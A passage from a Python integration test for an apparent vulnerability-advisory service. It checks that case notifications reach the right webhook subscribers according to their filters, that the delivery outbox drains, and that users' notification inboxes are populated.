                toks[name] = s.post("/api/v1/tokens", {"user_id": u["id"]}, a).json["token"]
                sub = {"channel": "webhook", "url": rx.url + "/" + name, "secret": SECRET}
                if flt:
                    sub["filter"] = flt
                self.assertEqual(s.post("/api/v1/subscriptions", sub, toks[name]).status, 201)
            gen = s.post("/api/v1/cases", log4j(aliases=["CVE-2042-0001"]), a).json["id"]
            ics = s.post("/api/v1/cases", log4j(aliases=["CVE-2042-0002"], library="ics"),
                         a).json["id"]
            for cid in (gen, ics):
                self.assertTrue(self.rx_has(rx, "/all", cid), cid)
            self.assertTrue(self.rx_has(rx, "/ics", ics))
            # every row the outbox had is delivered: none was for /ics about gen
            deadline = time.time() + 15
            while time.time() < deadline and "vigil_outbox_pending 0" not in s.get("/metrics").raw:
                time.sleep(0.05)
            self.assertIn("vigil_outbox_pending 0", s.get("/metrics").raw)
            urls = [d["url"] for d in s.get("/api/v1/cases/%s/deliveries" % gen, a).json["items"]]
            self.assertEqual(urls, [rx.url + "/all"])
            urls = [d["url"] for d in s.get("/api/v1/cases/%s/deliveries" % ics, a).json["items"]]
            self.assertEqual(sorted(urls), [rx.url + "/all", rx.url + "/ics"])
            self.assertFalse([r for r in rx.requests
                              if r["path"] == "/ics" and gen.encode() in r["body"]])
            for name in toks:
                inbox = s.get("/api/v1/notifications", toks[name]).json["items"]
                self.assertEqual(sorted(n["object_id"] for n in inbox
                                        if n["topic"] == "case.received"), sorted([gen, ics]))
        finally:
            s.close()
            rx.close()

    @staticmethod
    def rx_has(rx, path, cid):
        return rx.wait_for(lambda r: r["path"] == path and cid.encode() in r["body"])


if __name__ == "__main__":
    harness.main()
